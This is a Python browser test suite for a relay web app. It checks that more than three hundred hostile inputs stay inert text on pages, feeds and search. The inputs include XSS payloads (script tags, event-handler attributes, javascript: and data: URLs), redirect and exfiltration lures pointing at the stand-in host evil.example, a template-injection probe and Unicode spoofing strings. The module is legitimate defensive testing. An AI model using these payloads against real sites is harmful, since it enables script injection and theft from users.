"""Three hundred and more texts that were written to run, to load or to write something, on every page of a browser."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from hashlib import sha256
from itertools import product
from typing import TYPE_CHECKING

import pytest
from defusedxml import ElementTree

from meshrelay.core.bulletin import Area, Resource, Severity
from meshrelay.core.encoding import is_clean_text
from meshrelay.core.trust import Anchor, How
from tests.browser.conftest import Site, serving
from tests.browser.test_reader import PHONE, opened
from tests.web.sample import NOW, Author, Place, text

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

ENDS = ("", '">', "'>", "</title>", "</span></p>", "-->", "]]>", "</script>", "</style>", "\\", "\n", "</svg>")
DEEDS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<form action=http://evil.example><button autofocus>x",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=http://evil.example/x>",
    "' onmouseover='alert(1)' style='position:fixed;inset:0",
    '" onmouseover="alert(1)" style="position:fixed;inset:0',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ cycler.__init__.__globals__ }}{% for x in [].__class__.__mro__ %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
UGLY = (
    "W" * 400,
    "\u1800" * 300,
    "م" * 400,
    "\u200b" * 50 + "hidden",
    "\u200f\u200e\u061cabc\u200f",
    "Z\u0351\u0363\u0327\u0361" * 60,
    "\u2066\u2067abc\u2069\u2069",
    "раураӏ.example",
    "http://evil.example/" + "a/" * 150,
    "﷽" * 60,
    "👩\u200d👩\u200d👧\u200d👦" * 40,
    "a\u00ad" * 200,
    "‏ العربية " * 30,
    "\ufeff\u2060x",
)
TEXTS = tuple(end + deed for end, deed in product(ENDS, DEEDS)) + tuple(
    "".join(sign for sign in one if is_clean_text(sign)) for one in UGLY
)
MADE = (
    "main script, main img, main iframe, main form, main [style], main object, main embed, main video, base, main link"
)
"""What no text can be allowed to make."""


@dataclass(frozen=True)
class Den:
    """A served relay in which every text stands in every field; `paths` are the pages of its bulletins."""

    place: Place
    site: Site
    paths: tuple[str, ...]

    def call(self, name: str) -> None:
        """Let the relay be called something else."""
        self.place.settings = replace(self.place.settings, name=name)


@pytest.fixture(scope="module")
def den(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Den]:
    place = Place.open(tmp_path_factory.mktemp("den"))
    author, known = Author(20), Author(21)
    items = []
    for number, nasty in enumerate(TEXTS):
        words = text(
            nasty, event=nasty, description=nasty, instruction=nasty, sender_name=nasty, contact=nasty, web=nasty
        )
        items.append(
            (known if number % 2 else author).sign(
                words,
                severity=list(Severity)[number % 5],
                areas=(Area((("en", nasty),), geocodes=((nasty, nasty),)),),
                note=nasty,
                audience=nasty,
                source=nasty,
                resources=(Resource(nasty, nasty, nasty),),
            )
        )
        place.relay.local.add_anchor(Anchor(sha256(nasty.encode()).digest(), nasty, NOW, How.KEY))
    place.anchor(known, TEXTS[0])
    place.put(*items)
    place.relay.store.index_backlog(len(items))
    with serving(place) as site:
        yield Den(place, site, tuple(f"b/{item.id.hex()}" for item in items))
    place.relay.close()


def visit(page: Page, den: Den, path: str) -> Iterator[str]:
    """Open a page; yield what is wrong with it."""
    page.goto(den.site.url + path, wait_until="domcontentloaded")
    found = page.evaluate(
        f"[document.querySelectorAll('{MADE}').length, document.documentElement.scrollWidth,"
        " document.scripts.length, document.querySelectorAll('[onload], [onerror], [onfocus], [ontoggle]').length]"
    )
    if found[0] or found[2] > 1 or found[3] or found[1] > PHONE["width"]:
        yield f"{path}: {found}"
    if not page.url.startswith(den.site.url):
        yield f"{path}: led to {page.url}"


def elsewhere(seen: list[str], den: Den) -> list[str]:
    """Return what was asked of others, run or complained about; a stream that has no place is no complaint."""
    return [one for one in seen if not one.startswith((den.site.url, "console: Failed to load resource"))]


def test_there_are_more_than_three_hundred_texts() -> None:
    assert len(set(TEXTS)) >= 300


def test_lists_search_and_the_rest_show_every_text_as_text(browser: Browser, den: Den) -> None:
    found: list[str] = []
    paths = ["", "about", "poster", "search?q=alert", "search?q=evil", "?lang=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"]
    paths += [f"search?q={one}" for one in ("%3Cscript%3Ealert(1)%3C/script%3E", "%22%20onfocus=alert(1)%20autofocus")]
    paths += ["?in=%22%3E%3Csvg%20onload=alert(1)%3E", "?area=%22%3E%3Csvg%20onload=alert(1)%3E&category=%3Cb%3E"]
    paths += [f"screen?n={number}" for number in range(1, 13)] + [
        "carry",
        "report",
        "%3Cscript%3Ealert(1)%3C/script%3E",
    ]
    den.call(TEXTS[5])
    with opened(browser) as (page, seen):
        for path in paths:
            made = [one for one in visit(page, den, path) if not path.startswith(("carry", "report"))]
            found += made
        for lane in ("known", "unknown"):
            page.goto(f"{den.site.url}?lane={lane}")
            while True:
                if page.evaluate(f"document.querySelectorAll('{MADE}').length"):
                    found.append(page.url)
                more = page.get_by_role("link", name="Show more")
                if not more.count():
                    break
                more.click()
    assert found == []
    assert elsewhere(seen, den) == []


@pytest.mark.parametrize("every", [5, pytest.param(1, marks=pytest.mark.full)])
def test_a_bulletin_s_page_and_the_name_of_the_relay_stay_text(every: int, browser: Browser, den: Den) -> None:
    found: list[str] = []
    with opened(browser) as (page, seen):
        for path, name in list(zip(den.paths, TEXTS, strict=True))[::every]:
            den.call(name[:80])
            found += visit(page, den, path)
            page.mouse.move(20, 300)
    assert found == []
    assert elsewhere(seen, den) == []


def test_the_poster_stays_one_page_of_text_whatever_the_relay_is_called(browser: Browser, den: Den) -> None:
    found: list[str] = []
    with opened(browser) as (page, seen):
        for name in TEXTS[::16] + UGLY:
            den.call(name[:80])
            page.goto(f"{den.site.url}poster", wait_until="domcontentloaded")
            if page.evaluate("document.scripts.length + document.images.length + document.forms.length"):
                found.append(name)
    assert found == []
    assert elsewhere(seen, den) == []


def test_feeds_hold_every_text_as_text(browser: Browser, den: Den) -> None:
    den.call(TEXTS[9])
    with opened(browser) as (page, _):
        feed = page.request.get(f"{den.site.url}feed.atom?known=false")
        names = {one.tag.rpartition("}")[2] for one in ElementTree.fromstring(feed.body()).iter()}
        assert names <= {
            "feed",
            "title",
            "id",
            "updated",
            "generator",
            "link",
            "entry",
            "summary",
            "content",
            "author",
            "name",
            "category",
            "published",
            "rights",
            "subtitle",
            "source",
        }
        assert page.request.get(f"{den.site.url}feed.geojson?known=false").json()["type"] == "FeatureCollection"
        listed = page.request.get(f"{den.site.url}api/v1/bulletins?limit=200").json()["bulletins"]
        assert {one["headline"] for one in listed} <= set(TEXTS)
